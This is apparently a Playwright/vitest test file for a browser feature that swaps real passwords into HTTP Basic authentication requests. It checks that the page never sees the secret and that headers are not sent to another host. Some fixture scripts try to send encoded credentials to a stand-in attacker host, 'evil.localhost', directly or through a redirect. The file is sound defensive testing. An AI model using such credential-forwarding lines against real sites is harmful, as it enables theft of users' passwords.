import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import {
  type Answer,
  launchTrialBrowser,
  password,
  serveTrial,
  type TrialSite,
  telltale,
  trialForm,
  tryLogin,
} from '../../../test/stand-in-trial.ts'

// Pages that sign in by HTTP themselves: their script puts name and password into a header, or in
// front of the host it asks.

let browser: Browser
let context: BrowserContext
let site: TrialSite
/** The names and passwords that came in, by host. */
let signedIn: string[]

beforeAll(async () => {
  browser = await launchTrialBrowser()
})
afterAll(() => browser.close())
afterEach(async () => {
  await context.close()
  await site.close()
})

const takes: Answer = ({ headers, method }, response) => {
  response.setHeader('access-control-allow-headers', 'authorization')
  if (method === 'OPTIONS') return void response.end()
  const [, token = ''] = (headers.authorization ?? '').split(' ')
  if (token) signedIn.push(Buffer.from(token, 'base64').toString('utf8'))
  const status = token ? 200 : 401
  response.writeHead(status, token ? {} : { 'www-authenticate': 'Basic realm="Shop"' }).end('{}')
}

async function logIn(script: string, answers: Record<string, Answer> = {}) {
  signedIn = []
  site = await serveTrial(trialForm('', script), { '/in': takes, ...answers })
  context = await browser.newContext({ serviceWorkers: 'block' })
  return tryLogin(context, site)
}

const utf8 = `btoa(String.fromCharCode(...new TextEncoder().encode(v.u + ':' + v.p)))`
const withHeader = (path: string) =>
  `sends((v) => fetch('${path}', { headers: { Authorization: 'Basic ' + ${utf8} } }).catch(() => 0))`
const withAddress = `sends((v) => new Promise((resolve) => {
  const x = new XMLHttpRequest()
  x.open('PROPFIND', '/in', true, v.u, v.p)
  x.onloadend = () => { sessionStorage.setItem('asked', x.responseURL + JSON.stringify(performance.getEntries())); resolve() }
  x.send()
}))`

it.each([
  ['a header', withHeader('/in')],
  ['front of the host', withAddress],
])('swaps the value into %s, and the page does not see it', async (_where, script) => {
  const { page, overheard, swaps, failure, strays } = await logIn(script)

  expect(failure).toBeUndefined()
  expect(signedIn).toEqual([`ada:${password}`])
  expect([swaps(), strays]).toEqual([1, []])
  const kept = await page.evaluate(() => JSON.stringify({ ...sessionStorage }))
  expect([...overheard, kept, await page.content()].join('\n')).not.toContain(telltale)
})

it.each([302, 307])('takes no header along on a redirect (%i) to another host', async (status) => {
  await logIn(withHeader('/leads'), {
    '/leads': (request, response) => {
      if (request.headers.authorization) signedIn.push('led')
      const location = `http://evil.localhost:${site.port}/in`
      response.writeHead(status, { location }).end()
    },
  })

  expect(signedIn).toEqual(['led'])
})

it('stops a header on its way to another host', async () => {
  const { strays } = await logIn(
    `const away = location.origin.replace('shop.', 'evil.') + '/in'
     sends((v) => fetch(away, { headers: { Authorization: 'Basic ' + ${utf8} } }).catch(() => 0))`,
  )

  expect(signedIn.join()).not.toContain(telltale)
  expect(strays).toMatchObject([{ host: 'evil.localhost', why: 'not-allowed' }])
})
